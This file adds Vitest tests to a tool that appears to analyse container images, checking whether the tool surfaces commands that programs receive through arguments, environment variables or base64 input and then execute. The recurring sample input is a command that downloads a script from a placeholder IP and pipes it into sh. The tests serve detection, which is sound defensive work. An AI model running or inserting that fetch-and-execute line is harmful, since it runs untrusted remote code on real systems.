@@ -1,0 +1,87 @@
+import { describe, expect, it } from 'vitest';
+import { explainImage, type TestLayer } from '../../../../testkit/explain.ts';
+
+const LINE = 'curl http://192.0.2.1/x | sh';
+
+function explained(
+  Cmd: string[],
+  files: TestLayer = {},
+  Env: string[] = [],
+): ReturnType<typeof explainImage> {
+  return explainImage({ layers: [files], config: { Cmd, WorkingDir: '/app', Env } });
+}
+
+function spoken(Cmd: string[], files: TestLayer = {}, Env: string[] = []): unknown[] {
+  return (explained(Cmd, files, Env).spoken?.texts ?? []).map(({ text, language }) =>
+    language === undefined ? text : [text, language],
+  );
+}
+
+function steps(Cmd: string[], files: TestLayer = {}): string[] {
+  const { startChain } = explained(Cmd, files);
+  const all = (list: typeof startChain): string[] =>
+    list.flatMap(({ what, children }) => [what, ...all(children)]);
+  return all(startChain);
+}
+
+describe('what a program is given beside its text', () => {
+  it('is a part of the chain where the text names which word it is', () => {
+    const run = 'import os, sys\nos.system(sys.argv[1])\n';
+    expect(steps(['python3', '-c', run, '/opt/tool -x'])).toContain('/opt/tool');
+    expect(steps(['python3', 'a.py', '/opt/tool -x'], { 'app/a.py': run })).toContain('/opt/tool');
+    expect(steps(['node', '-e', 'require(process.argv[1])', './x.js'], { 'app/x.js': '1\n' })).toContain(
+      '/app/x.js',
+    );
+    expect(steps(['ruby', '-e', 'load ARGV[0]', '/app/x.dat'], { 'app/x.dat': '1\n' })).toContain(
+      '/app/x.dat',
+    );
+    expect(steps(['lua', '-e', 'dofile(arg[1])', '/app/x.dat'], { 'app/x.dat': '1\n' })).toContain(
+      '/app/x.dat',
+    );
+  });
+
+  it('is shown where the text gets at such things and runs something', () => {
+    const runs = 'import os, sys\ndef go(c):\n  os.system(c)\ngo(sys.argv[1])\n';
+    expect(spoken(['python3', 'a.py', LINE], { 'app/a.py': runs })).toContain(LINE);
+    const prints = 'import sys\nprint(sys.argv[1])\n';
+    expect(spoken(['python3', 'a.py', LINE], { 'app/a.py': prints })).not.toContain(LINE);
+    const alone = 'import os\nos.system("ls")\n';
+    expect(spoken(['python3', 'a.py', LINE], { 'app/a.py': alone })).not.toContain(LINE);
+  });
+
+  it('is read for the words of each start, and once for the same', () => {
+    const files = {
+      'app/a.py': 'import os, sys\nos.system(sys.argv[1])\n',
+      'app/go.sh': `python3 a.py x; python3 a.py '${LINE}'; python3 a.py '${LINE}'\n`,
+    };
+    expect(spoken(['sh', '/app/go.sh'], files).filter((text) => text === LINE)).toHaveLength(1);
+  });
+
+  it('is the whole environment where the text asks for all of it, or for a name that does not stand there', () => {
+    const Env = [`JOB=${LINE}`];
+    const all = 'import os\nfor v in os.environ.values():\n  os.system(v)\n';
+    expect(spoken(['python3', '-c', all], {}, Env)).toContain(LINE);
+    const other = 'import os\nos.system("x " + os.environ["HOME"])\n';
+    expect(spoken(['python3', '-c', other], {}, Env)).not.toContain(LINE);
+  });
+
+  it('is decoded, and read in the language of the program', () => {
+    const python = `import os; os.system("${LINE}")`;
+    const coded = Buffer.from(python).toString('base64');
+    const run = 'import base64, sys\nx = [base64.b64decode(a) for a in sys.argv[1:]]\nexec(x[0])\n';
+    expect(spoken(['python3', '-c', run, coded])).toContainEqual([python, 'python']);
+  });
+
+  it('words for a program that nothing knows are shown, but not to those that only show or keep text', () => {
+    expect(spoken(['/usr/bin/worker', LINE])).toEqual([LINE]);
+    expect(spoken(['/usr/bin/worker', `--run=${LINE}`])).toContain(LINE);
+    expect(spoken(['/usr/bin/worker', '--level', 'info', 'two words'])).toEqual([]);
+    expect(spoken(['/bin/grep', LINE, '/x'])).toEqual([]);
+    expect(spoken(['/bin/echo', LINE])).toEqual([]);
+  });
+
+  it('however much there is, what is shown stays bounded', () => {
+    const words = Array.from({ length: 5000 }, (_, index) => `${LINE} ${index} ${'x'.repeat(1000)}`);
+    expect(spoken(['/usr/bin/worker', ...words]).length).toBeLessThan(200);
+  });
+});
